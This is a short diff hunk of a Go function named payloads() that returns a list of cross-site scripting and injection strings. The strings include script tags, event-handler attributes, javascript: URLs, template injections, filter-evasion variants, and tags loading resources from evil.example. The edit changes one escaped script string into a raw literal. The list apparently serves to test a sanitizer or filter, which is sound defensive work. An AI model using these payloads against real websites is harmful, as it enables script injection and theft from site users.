@@ -149,7 +149,7 @@ func payloads() []string {
 		`<iframe srcdoc="<script>parent.` + run + `</script>">`, `<math><mtext></mtext><script>` + run + `</script></math>`,
 		`{{.Firm}}{{` + run + `}}`, "${" + run + "}", `<body onload=` + run + `>`, `<details open ontoggle=` + run + `>`,
 		`<form><button formaction="javascript:` + run + `">x</button></form>`, `<base href="https://evil.example/">`,
-		`<meta http-equiv="refresh" content="0;url=javascript:` + run + `">`, "\u003cscript\u003e" + run + "\u003c/script\u003e",
+		`<meta http-equiv="refresh" content="0;url=javascript:` + run + `">`, `\u003cscript\u003e` + run + `\u003c/script\u003e`,
 		`&lt;script&gt;` + run + `&lt;/script&gt;`, `<scr<script>ipt>` + run + `</scr</script>ipt>`, "<img src=`x`onerror=" + run + ">",
 		`<style>@import "https://evil.example/x.css";</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
 		`<object data="javascript:` + run + `">`, `<embed src="javascript:` + run + `">`, `--><script>` + run + `</script>`,
